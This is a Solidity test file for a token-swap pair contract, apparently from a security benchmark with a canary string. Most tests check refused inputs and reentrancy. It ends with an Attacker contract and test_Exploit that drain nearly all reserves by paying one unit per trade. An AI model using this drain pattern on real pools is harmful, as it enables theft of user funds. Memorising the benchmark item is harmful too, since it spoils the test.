// SPDX-License-Identifier: MIT
pragma solidity 0.5.17;

import "./RopewalkPair.sol";

// assay-canary-879a64d5-3af3-4ba5-8f02-f5bfe6e6dd72

interface Vm {
    function prank(address sender) external;
    function expectRevert(bytes calldata reason) external;
}

/// A yarn that anybody may set: it comes and goes, moves or does not, and calls the pair back while it moves.
contract LooseYarn {
    mapping(address => uint256) public balanceOf;
    bool private stuck;
    address private called;
    bytes private message;

    function put(address holder, uint256 amount) external {
        balanceOf[holder] = amount;
    }

    function stick() external {
        stuck = true;
    }

    function callBack(address called_, bytes calldata message_) external {
        called = called_;
        message = message_;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (stuck) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        if (called != address(0)) {
            (bool ok, bytes memory answer) = called.call(message);
            if (!ok) {
                assembly {
                    revert(add(answer, 32), mload(answer))
                }
            }
        }
        return true;
    }
}

contract Yarn {
    address private minter = msg.sender;
    using Num for uint256;
    mapping(address => uint256) public balanceOf;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] = balanceOf[to].plus(amount);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] = balanceOf[msg.sender].minus(amount);
        balanceOf[to] = balanceOf[to].plus(amount);
        return true;
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant SPINNER = address(0x5919);
    uint256 constant SIDE = 25000000 ether;

    Yarn internal hemp;
    Yarn internal flax;
    RopewalkPair internal pair;
    Attacker internal thief;

    function setUp() public {
        hemp = new Yarn();
        flax = new Yarn();
        pair = new RopewalkPair(IYarn(address(hemp)), IYarn(address(flax)));
        hemp.mint(address(pair), SIDE);
        flax.mint(address(pair), SIDE);
        pair.join(SPINNER);
        thief = new Attacker(pair, hemp, flax);
        hemp.mint(address(thief), 100);
        flax.mint(address(thief), 100);
    }

    function test_Regular() public {
        require(pair.balanceOf(SPINNER) == SIDE - 1000 && pair.totalSupply() == SIDE, "joined");
        uint256 out = pair.quote(1000 ether, true);
        require(out > 998 ether && out < 999 ether, "quote");
        hemp.mint(address(pair), 1000 ether);
        pair.trade(0, out, address(this));
        require(flax.balanceOf(address(this)) == out && pair.hempKept() == SIDE + 1000 ether, "traded");

        (bool ok, ) = address(pair).call(abi.encodeWithSignature("trade(uint256,uint256,address)", 1, 0, address(this)));
        require(!ok, "nothing paid");
        uint256 kept = pair.flaxKept();
        hemp.mint(address(pair), 1 ether);
        (ok, ) = address(pair).call(abi.encodeWithSignature("trade(uint256,uint256,address)", 0, kept, address(this)));
        require(!ok, "all of it");
        (ok, ) = address(pair).call(
            abi.encodeWithSignature("trade(uint256,uint256,address)", 0, kept - 1 ether, address(this))
        );
        require(!ok, "nearly all of it");
        pair.level();
        require(pair.hempKept() == SIDE + 1001 ether, "levelled");

        vm.prank(SPINNER);
        pair.transfer(address(pair), SIDE / 10);
        pair.leave(SPINNER);
        require(hemp.balanceOf(SPINNER) == (SIDE + 1001 ether) / 10, "left");
        require(flax.balanceOf(SPINNER) == (SIDE - out) / 10, "left with flax");

        hemp.mint(address(pair), pair.hempKept() / 100);
        flax.mint(address(pair), pair.flaxKept() / 100);
        uint256 supply = pair.totalSupply();
        require(pair.join(address(this)) <= supply / 100, "joined for a hundredth");

        pair.approve(SPINNER, 2);
        vm.prank(SPINNER);
        pair.transferFrom(address(this), SPINNER, 2);
        require(pair.balanceOf(SPINNER) >= 2 && pair.allowance(address(this), SPINNER) == 0, "allowance");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesOneYarnForBoth() public {
        vm.expectRevert("Ropewalk: same");
        new RopewalkPair(IYarn(address(hemp)), IYarn(address(hemp)));
    }

    function test_RefusesNumbersBeyondTheirRange() public {
        vm.expectRevert("Num: minus");
        pair.transfer(SPINNER, 1);
        vm.expectRevert("Num: times");
        pair.quote(uint256(-1), true);

        (RopewalkPair other, LooseYarn first, LooseYarn second) = loose();
        require(new RopewalkPair(IYarn(address(first)), IYarn(address(second))).quote(1, true) == 0, "empty, no price");
        first.put(address(other), uint256(-1) / 10000);
        second.put(address(other), 1);
        other.level();
        vm.expectRevert("Num: plus");
        other.quote(1 ether, true);
    }

    function test_RefusesToJoinWithNothing() public {
        vm.expectRevert("Ropewalk: nothing joined");
        pair.join(address(this));
    }

    function test_RefusesToLeaveWithNothing() public {
        vm.expectRevert("Ropewalk: nothing left");
        pair.leave(address(this));
    }

    function test_RefusesToLeaveWithoutHemp() public {
        (RopewalkPair other, LooseYarn first, ) = loose();
        other.transfer(address(other), 1 ether);
        first.put(address(other), 0);
        vm.expectRevert("Ropewalk: nothing left");
        other.leave(address(this));
    }

    function test_RefusesToLeaveWithoutFlax() public {
        (RopewalkPair other, , LooseYarn second) = loose();
        other.transfer(address(other), 1 ether);
        second.put(address(other), 0);
        vm.expectRevert("Ropewalk: nothing left");
        other.leave(address(this));
    }

    function test_RefusesTradesForNothing() public {
        vm.expectRevert("Ropewalk: nothing asked");
        pair.trade(0, 0, address(this));
    }

    function test_RefusesTradesForAllOfASide() public {
        vm.expectRevert("Ropewalk: too much asked");
        pair.trade(SIDE, 1, address(this));
        vm.expectRevert("Ropewalk: too much asked");
        pair.trade(1, SIDE, address(this));
    }

    function test_RefusesToPayTheYarnsThemselves() public {
        vm.expectRevert("Ropewalk: to");
        pair.trade(1, 0, address(hemp));
        vm.expectRevert("Ropewalk: to");
        pair.trade(1, 0, address(flax));
    }

    function test_RefusesYarnThatDoesNotMove() public {
        (RopewalkPair other, LooseYarn first, LooseYarn second) = loose();
        first.stick();
        vm.expectRevert("Ropewalk: hemp");
        other.trade(1, 0, address(this));
        second.stick();
        vm.expectRevert("Ropewalk: flax");
        other.trade(0, 1, address(this));
    }

    function test_RefusesASecondCallWhileYarnMoves() public {
        (RopewalkPair other, LooseYarn first, ) = loose();
        bytes[4] memory calls = [
            abi.encodeWithSignature("join(address)", this),
            abi.encodeWithSignature("leave(address)", this),
            abi.encodeWithSignature("trade(uint256,uint256,address)", 0, 1, this),
            abi.encodeWithSignature("level()")
        ];
        for (uint256 i = 0; i < 4; i++) {
            first.callBack(address(other), calls[i]);
            vm.expectRevert("Ropewalk: busy");
            other.trade(1, 0, address(this));
        }
    }

    /// A pair of two loose yarns, ten of each; its strands are this contract's.
    function loose() private returns (RopewalkPair other, LooseYarn first, LooseYarn second) {
        first = new LooseYarn();
        second = new LooseYarn();
        other = new RopewalkPair(IYarn(address(first)), IYarn(address(second)));
        first.put(address(other), 10 ether);
        second.put(address(other), 10 ether);
        other.join(address(this));
    }

    /// What the spinner's strands stand for; either yarn is worth a dollar.
    function recoverable() public view returns (uint256) {
        uint256 all = hemp.balanceOf(address(pair)) + flax.balanceOf(address(pair));
        return all * pair.balanceOf(SPINNER) / pair.totalSupply();
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(recoverable() + 49999000 ether <= before, "nothing lost");
    }

    function target() public view returns (address) {
        return address(pair);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Pays one unit and takes 98 of 100, from one side and then from the other.
contract Attacker {
    RopewalkPair internal pair;
    Yarn internal hemp;
    Yarn internal flax;

    constructor(RopewalkPair pair_, Yarn hemp_, Yarn flax_) public {
        pair = pair_;
        hemp = hemp_;
        flax = flax_;
    }

    function run() external {
        for (uint256 i = 0; i < 3; i++) {
            hemp.transfer(address(pair), 1);
            pair.trade(0, pair.flaxKept() / 100 * 98, address(this));
            flax.transfer(address(pair), 1);
            pair.trade(pair.hempKept() / 100 * 98, 0, address(this));
        }
    }
}
